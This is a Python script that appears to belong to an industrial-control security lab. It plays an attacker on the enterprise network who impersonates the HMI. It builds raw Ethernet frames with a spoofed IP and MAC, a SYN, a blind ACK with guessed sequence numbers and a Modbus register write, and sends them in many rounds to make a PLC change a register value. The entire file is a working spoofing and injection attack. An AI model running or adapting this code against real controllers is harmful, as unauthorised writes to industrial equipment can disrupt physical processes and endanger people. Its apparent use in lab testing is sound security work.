"""The attacker in the enterprise zone who claims to be the HMI.

In: whom to be, whom to hit, the register and a value. Out: one JSON line with what was sent. Sends, as the HMI, a SYN,
the third step of a handshake with guessed numbers, and a blind Modbus write, many times over; with its own MAC or with
the HMI's. Whether it worked is read from the controller's registers, not here. Runs on the attacker's host only.
"""

from __future__ import annotations

import argparse
import json
import socket
from ipaddress import IPv4Address
from typing import Final

from deploy.lab import frames
from deploy.lab.plc import MODBUS_PORT

ROUNDS_MAX: Final = 1000
GUESSED_SEQUENCES: Final = (0x1000, 0x40000000, 0x80000000, 0xC0000000)


def spoofed_frames(to: frames.Addresses, register: int, value: int, rounds: int) -> list[bytes]:
    """Return the frames of `rounds` blind connection attempts, each from a port of its own."""
    made = []
    for number in range(rounds):
        attempt = frames.Addresses(
            to.source_mac, to.destination_mac, to.source, to.destination, to.source_port + number, to.destination_port
        )
        sequence = GUESSED_SEQUENCES[number % len(GUESSED_SEQUENCES)]
        guess = GUESSED_SEQUENCES[(number + 1) % len(GUESSED_SEQUENCES)]
        made += [
            frames.tcp(attempt, frames.SYN, sequence, 0),
            frames.tcp(attempt, frames.ACK, sequence + 1, guess + 1),
            frames.tcp(attempt, frames.PSH_ACK, sequence + 1, guess + 1, frames.modbus_write(register, value)),
        ]
    return made


def mac(text: str) -> bytes:
    """Return a MAC address from its usual text."""
    return bytes.fromhex(text.replace(":", ""))


def interface_mac(interface: str) -> bytes:
    """Return the MAC of one of this host's interfaces."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
        link.bind((interface, 0))
        return bytes(link.getsockname()[4])


def main() -> None:
    """Parse the command line, send, and say what was sent."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--interface", default="eth0")
    parser.add_argument("--claim-ip", required=True, help="source address to claim")
    parser.add_argument("--claim-mac", default=None, help="source MAC to claim; the interface's own by default")
    parser.add_argument("--target-ip", required=True)
    parser.add_argument("--target-mac", required=True)
    parser.add_argument("--register", type=int, required=True)
    parser.add_argument("--value", type=int, required=True)
    parser.add_argument("--rounds", type=int, default=8, choices=range(1, ROUNDS_MAX + 1), metavar="N")
    given = parser.parse_args()
    claimed = mac(given.claim_mac) if given.claim_mac else interface_mac(given.interface)
    to = frames.Addresses(
        claimed,
        mac(given.target_mac),
        IPv4Address(given.claim_ip).packed,
        IPv4Address(given.target_ip).packed,
        50000,
        MODBUS_PORT,
    )
    made = spoofed_frames(to, given.register, given.value, given.rounds)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
        link.bind((given.interface, 0))
        for frame in made:
            link.send(frame)
    print(json.dumps({"sent": len(made), "claimed_mac": claimed.hex(":"), "bytes": sum(map(len, made))}))


if __name__ == "__main__":
    main()
